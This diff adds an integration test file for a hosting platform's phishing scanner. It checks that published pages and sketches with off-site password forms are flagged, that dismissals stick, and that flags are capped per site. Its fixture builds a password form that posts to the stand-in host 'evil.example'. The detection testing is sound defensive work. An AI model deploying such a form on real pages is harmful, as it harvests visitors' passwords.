@@ -1,0 +1,130 @@
+/** A scan from what is published to what an operator sees, over the wire. */
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { Deployment } from '../../db/entities/deployment.ts';
+import { Flag } from '../../db/entities/flag.ts';
+import { Sketch } from '../../db/entities/sketch.ts';
+import { restartScans } from '../../db/flags.ts';
+import { type Caller, createSite } from '../api/world.ts';
+import { ways } from '../publishing/crash-ways.ts';
+import { aroundActivities } from '../stack/worker.ts';
+import { createScanningWorld, type ScanningWorld } from './world.ts';
+
+const { around, interceptors } = aroundActivities();
+let world: ScanningWorld;
+beforeAll(async () => {
+  world = await createScanningWorld({ interceptors });
+}, 60_000);
+afterAll(() => world?.close());
+
+const soon = { timeout: 15_000, interval: 50 };
+const form = (words = '') =>
+  `<!doctype html><title>T</title>${words}<form action="https://evil.example/"><input type="password"></form>`;
+const scanned = async (id: string) => (await world.deps.em().findOneOrFail(Deployment, { id })).scannedAt;
+/** Live by other hands than the wire's, which is quicker. */
+const show = ({ accountId }: Caller, { id }: { id: string }, files: Record<string, string>) =>
+  world.publish(id, accountId, files);
+const untilScanned = (id: string) => expect.poll(() => scanned(id), soon).toBeInstanceOf(Date);
+
+test('what is published is live first and flagged within seconds, once for each file and kind', async () => {
+  const owner = await world.newCaller();
+  const site = await createSite(owner);
+  const id = await world.upload(owner, site, { 'index.html': form(), 'in/index.html': form(), 'fine.html': '<p>x' });
+  const began = performance.now();
+  await untilScanned(id);
+  expect(performance.now() - began).toBeLessThan(10_000);
+  const flags = await world.flagsOf(site);
+  expect(flags).toMatchObject([
+    { path: 'in/index.html', kind: 'password_form', excerpt: 'https://evil.example/', open: true, site: site.name },
+    { path: 'index.html', kind: 'password_form', account_id: owner.accountId, blocked: false },
+  ]);
+  expect(await world.operate('flags', 'show', '--flag', flags[0].id)).toMatchObject({
+    id: flags[0].id,
+    deployment_id: id,
+  });
+  // Nothing of it shows to its owner, and nothing is stopped.
+  expect((await world.visit(site.name, '/')).status).toBe(200);
+  expect((await owner.call('GET', `/v1/deployments/${id}`)).text).not.toContain('flag');
+});
+
+test('what was dismissed does not come again for the same bytes, and does for others; what has not changed is not read', async () => {
+  const owner = await world.newCaller();
+  const site = await createSite(owner);
+  await untilScanned(await show(owner, site, { 'index.html': form() }));
+  const [flag] = await world.flagsOf(site);
+  const dismissed = await world.operate('flags', 'dismiss', '--flag', flag.id, '--reason', 'A school for testers.');
+  expect(dismissed).toEqual({ id: flag.id, dismissed_at: expect.any(String) });
+  const publish = async (files: Record<string, string>) => {
+    await untilScanned(await show(owner, site, files));
+    return (await world.flagsOf(site)).map(({ id, path }: { id: string; path: string }) => [id === flag.id, path]);
+  };
+  expect(await publish({ 'index.html': form(), 'a.html': '<p>new' })).toEqual([]);
+  expect(await publish({ 'index.html': '<p>mended' })).toEqual([]);
+  expect(await publish({ 'index.html': form('other') })).toEqual([[true, 'index.html']]);
+  await world.operate('flags', 'dismiss', '--flag', flag.id, '--reason', 'The same.');
+  expect(await publish({ 'index.html': '<p>mended' })).toEqual([]);
+  for (let n = 0; n < 3; n++) await publish({ 'index.html': `<p>${n}` });
+  // Older than what is known to have been scanned: read again, and known to have been dismissed.
+  expect(await publish({ 'index.html': form() })).toEqual([]);
+  expect((await world.operate('flags', 'list', '--all', '--site', site.id)).items).toMatchObject([{ open: false }]);
+});
+
+test('its own domains, the platform’s forms and its own address are no other places', async () => {
+  const owner = await world.newCaller();
+  const site = await createSite(owner);
+  const own = [site.address, '/in', `http://${site.name}.sites.localhost/x`].map(
+    (action) => `<form action="${action}"><input type="password"></form>`,
+  );
+  const ours = `<form action="${world.config.baseUrl}/f/form_1"><input name="email"></form>`;
+  await untilScanned(await show(owner, site, { 'index.html': own.join('') + ours }));
+  expect(await world.flagsOf(site)).toEqual([]);
+});
+
+test('a sketch is scanned too, and a restore is not once more', async () => {
+  const owner = await world.newCaller();
+  const body = { title: 'S', directions: [{ name: 'One', html: form() }] };
+  const { id } = (await owner.call('POST', '/v1/sketches', { body })).body;
+  const row = () => world.deps.em().findOneOrFail(Sketch, { id });
+  await expect.poll(async () => (await row()).scannedAt, soon).toBeInstanceOf(Date);
+  const { items } = await world.operate('flags', 'list');
+  const of = items.find((one: { sketch_id?: string }) => one.sketch_id === id);
+  expect(of).toMatchObject({ kind: 'password_form', path: 'direction-1.html', account_id: owner.accountId });
+
+  const site = await createSite(owner);
+  const first = await show(owner, site, { 'index.html': '<p>1' });
+  await untilScanned(first);
+  const at = await scanned(first);
+  await untilScanned(await show(owner, site, { 'index.html': '<p>2' }));
+  expect((await owner.call('POST', `/v1/deployments/${first}/restore`)).status).toBe(200);
+  expect(await scanned(first)).toEqual(at);
+  const sent = await world.deps
+    .em()
+    .execute<unknown[]>('select 1 from outbox where workflow_id = ?', [`scan:${first}`]);
+  expect(sent).toHaveLength(1);
+});
+
+test('one that was lost is started again, and one site raises no more flags than somebody can read', async () => {
+  const owner = await world.newCaller();
+  const site = await createSite(owner);
+  const many = Object.fromEntries(Array.from({ length: 120 }, (_, n) => [`${n}.html`, form(String(n))]));
+  const id = await show(owner, site, many);
+  await untilScanned(id);
+  const count = () => world.deps.em().count(Flag, { site: site.id });
+  expect(await count()).toBe(100);
+  await world.deps.em().nativeDelete(Flag, { site: site.id });
+  await world.deps.em().nativeUpdate(Deployment, { id }, { scannedAt: null });
+  await world.deps.em().execute(`delete from outbox where workflow_id = ?`, [`scan:${id}`]);
+  world.skip(6 * 60_000);
+  expect(await restartScans(world.deps.em(), world.clock)).toBeGreaterThan(0);
+  await untilScanned(id);
+  expect(await count()).toBe(100);
+});
+
+test.each(Object.keys(ways) as (keyof typeof ways)[])('a scan that %s flags once', async (way) => {
+  const owner = await world.newCaller();
+  const site = await createSite(owner);
+  around.set('scanFiles', ways[way]);
+  const id = await show(owner, site, { 'index.html': form() });
+  await untilScanned(id);
+  await expect.poll(() => around.size, soon).toBe(0);
+  expect(await world.deps.em().count(Flag, { site: site.id })).toBe(1);
+});
